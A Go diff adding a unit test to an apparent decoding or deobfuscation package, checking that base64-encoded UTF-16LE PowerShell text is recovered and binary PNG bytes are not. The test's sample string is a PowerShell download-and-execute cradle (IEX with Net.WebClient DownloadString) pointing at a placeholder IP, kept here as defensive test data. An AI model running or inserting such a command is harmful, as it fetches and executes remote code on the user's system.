@@ -1,6 +1,7 @@
 package decode
 
 import (
+	"encoding/base64"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -97,4 +98,22 @@ func FuzzDecode(f *testing.F) {
 			}
 		}
 	})
+}
+
+// TestDecodeUTF16LE: base64 of UTF-16LE text (PowerShell's
+// -EncodedCommand) is read as that text; base64 of other binary is not.
+func TestDecodeUTF16LE(t *testing.T) {
+	const script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')"
+	var u []byte
+	for _, r := range script {
+		u = append(u, byte(r), 0)
+	}
+	layers := Decode(base64.StdEncoding.EncodeToString(u), Limits{})
+	if len(layers) != 1 || layers[0].Encoding != Base64 || layers[0].Text != script {
+		t.Fatalf("layers %+v", layers)
+	}
+	bin := []byte{0x89, 'P', 'N', 'G', 0, 0, 0, 0x0d, 'I', 'H', 'D', 'R', 0, 0, 0, 1}
+	if layers := Decode(base64.StdEncoding.EncodeToString(bin), Limits{}); len(layers) != 0 {
+		t.Fatalf("binary decoded as %+v", layers)
+	}
 }
